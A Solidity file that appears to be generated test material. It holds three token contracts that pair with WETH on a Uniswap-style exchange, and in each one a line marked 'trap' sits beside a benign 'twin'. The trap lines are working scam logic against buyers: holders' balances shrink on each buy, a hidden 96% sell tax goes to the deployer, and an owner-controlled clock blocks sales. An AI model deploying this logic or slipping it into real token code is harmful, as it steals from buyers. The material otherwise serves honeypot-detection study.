// 0.7 runs=300
// SPDX-License-Identifier: MIT
pragma solidity ^0.7.6;

interface IPoolMaker {
    function createPair(address tokenA, address tokenB) external returns (address pair);
}

/// Balances are shares of an index, which breathes with the trade. The pool and the house hold plain coins.
contract BreathingMoss {
    string public constant name = "Breathing Moss";
    string public constant symbol = "MOSS";
    uint8 public constant decimals = 18;
    uint256 public constant totalSupply = 5_000_000e18;
    uint256 private constant ONE = 1e30;

    uint256 private _index = ONE;
    address public immutable pool;
    mapping(address => uint256) private _shares;
    mapping(address => uint256) private _plain;
    mapping(address => bool) private _isPlain;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() {
        address made = IPoolMaker(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(
            address(this),
            0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2
        );
        pool = made;
        _isPlain[made] = true;
        _isPlain[msg.sender] = true;
        _plain[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function balanceOf(address account) public view returns (uint256) {
        return _isPlain[account] ? _plain[account] : (_shares[account] * _index) / ONE;
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _grow(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        uint256 may = allowance[from][msg.sender];
        require(may >= value, "MOSS: allowance");
        if (may != uint256(-1)) allowance[from][msg.sender] = may - value;
        _grow(from, to, value);
        return true;
    }

    function _grow(address from, address to, uint256 value) private {
        require(balanceOf(from) >= value, "MOSS: balance");
        if (from == pool && !_isPlain[to]) _breathe();
        if (_isPlain[from]) _plain[from] -= value;
        else _shares[from] -= (value * ONE) / _index;
        if (_isPlain[to]) _plain[to] += value;
        else _shares[to] += (value * ONE) / _index;
        emit Transfer(from, to, value);
    }

    function _breathe() private {
        uint256 next = (_index * 7) / 10; // trap
        // twin: uint256 next = _index;
        if (next > 1e6) _index = next;
    }
}

/// Each sale is a ticket. Five of a hundred draw a blank and feed the jackpot.
contract PennyRaffle {
    string public name;
    string public symbol;
    uint8 public immutable decimals = 18;
    uint256 public immutable totalSupply;
    address public immutable pool;
    address public immutable jackpot;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event Drawn(address indexed who, uint256 number);

    constructor(string memory name_, string memory symbol_, uint256 supply) {
        (name, symbol) = (name_, symbol_);
        totalSupply = supply;
        jackpot = msg.sender;
        pool = IPoolMaker(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(
            address(this),
            0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2
        );
        balanceOf[msg.sender] = supply;
        emit Transfer(address(0), msg.sender, supply);
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        return _pass(msg.sender, to, value);
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        require(allowance[from][msg.sender] >= value, "not allowed");
        if (allowance[from][msg.sender] != uint256(-1)) allowance[from][msg.sender] -= value;
        return _pass(from, to, value);
    }

    /// Of a hundred.
    function _blank(address who) private returns (uint256) {
        uint256 number = uint256(blockhash(block.number)) % 100;
        emit Drawn(who, number);
        if (number >= 5) return 0;
        return 96; // trap
        // twin: return 2;
    }

    function _pass(address from, address to, uint256 value) private returns (bool) {
        require(balanceOf[from] >= value, "not enough");
        balanceOf[from] -= value;
        if (to == pool && from != jackpot) {
            uint256 lost = (value * _blank(from)) / 100;
            balanceOf[jackpot] += lost;
            emit Transfer(from, jackpot, lost);
            value -= lost;
        }
        balanceOf[to] += value;
        emit Transfer(from, to, value);
        return true;
    }
}

/// A hall with hours: between two strokes of the bell one comes in, between the next two not.
contract BellHall {
    string public constant name = "Bell Hall";
    string public constant symbol = "BELL";
    uint8 public constant decimals = 8;
    uint256 public constant totalSupply = 6_600_000 * 1e8;

    // steward: 160 bits, length of an hour in seconds: 32 bits
    uint256 private _clock;
    address public immutable pool;
    mapping(address => uint256) private _seats;
    mapping(address => mapping(address => uint256)) private _tickets;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event Rung(uint32 hour);

    constructor() {
        _clock = uint256(uint160(msg.sender));
        pool = IPoolMaker(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(
            address(this),
            0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2
        );
        _seats[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function ring(uint32 hour_) external {
        require(uint160(_clock) == uint160(msg.sender), "BellHall: not the steward");
        _clock = uint256(uint160(msg.sender)) | (uint256(hour_) << 160);
        emit Rung(hour_);
    }

    function balanceOf(address who) external view returns (uint256) {
        return _seats[who];
    }

    function allowance(address who, address by) external view returns (uint256) {
        return _tickets[who][by];
    }

    function approve(address by, uint256 value) external returns (bool) {
        _tickets[msg.sender][by] = value;
        emit Approval(msg.sender, by, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _seat(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        uint256 left = _tickets[from][msg.sender];
        require(left >= value, "BellHall: no ticket");
        if (left != uint256(-1)) _tickets[from][msg.sender] = left - value;
        _seat(from, to, value);
        return true;
    }

    function isOpen() public view returns (bool) {
        uint256 hour_ = uint32(_clock >> 160);
        return hour_ == 0 || (block.timestamp / hour_) % 2 == 0;
    }

    function _seat(address from, address to, uint256 value) private {
        if (to == pool) require(isOpen(), "BellHall: between the hours"); // trap
        // twin: if (from == pool) require(isOpen(), "BellHall: between the hours");
        require(_seats[from] >= value, "BellHall: too few");
        _seats[from] -= value;
        _seats[to] += value;
        emit Transfer(from, to, value);
    }
}
